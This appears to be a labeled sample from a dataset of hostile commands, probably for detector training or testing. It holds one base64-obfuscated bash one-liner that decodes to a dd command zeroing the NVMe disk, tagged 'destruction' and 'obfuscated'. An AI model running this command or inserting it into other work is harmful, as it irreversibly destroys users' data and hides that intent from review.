# description: Decodes a base64 dd command that zeroes the NVMe disk and runs it with bash.
# family: destruction
# obfuscated: yes
echo ZGQgaWY9L2Rldi96ZXJvIG9mPS9kZXYvbnZtZTBuMSBicz0xTQ== | base64 --decode | bash
